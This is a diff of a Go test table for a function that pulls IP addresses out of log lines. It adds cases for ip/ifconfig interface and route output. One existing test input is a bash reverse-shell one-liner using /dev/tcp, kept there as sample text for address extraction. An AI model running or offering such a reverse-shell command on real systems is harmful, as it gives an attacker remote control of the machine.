@@ -42,6 +42,12 @@ func TestAddressesInTheFormsOfLogs(t *testing.T) {
 		"id 15.1.225.42": "15.1.225.42",
 		"bash -i >& /dev/tcp/203.0.113.10/22 0>&1; cat < /dev/udp/203.0.113.11/53; ls /dev/x/1.2.3.4/5": "203.0.113.10 203.0.113.11",
 
+		// The addresses of interfaces, as ip and ifconfig write them, and routes.
+		"    inet 203.0.113.10/24 brd 203.0.113.255 scope global eth0":              "203.0.113.10 203.0.113.255",
+		"    inet6 2001:db8::1/64 scope global; inet6 addr: 2001:db8::2/64 Scope:G": "2001:db8::1 2001:db8::2",
+		"inet6 addr:2001:db8::1/64 inet 127.0.0.1/8 inet 203.0.113.0/24":            "2001:db8::1 127.0.0.1 203.0.113.0/24",
+		"203.0.113.10/24 via 192.0.2.1 net inet: 203.0.113.10/24":                   "203.0.113.0/24 192.0.2.1 203.0.113.0/24",
+
 		// Squid's hierarchy.
 		"GET http://x.example/ - HIER_DIRECT/198.51.100.66 text/html":       "198.51.100.66",
 		"CONNECT x.example:443 - FIRSTUP_PARENT/192.0.2.44 -":               "192.0.2.44",
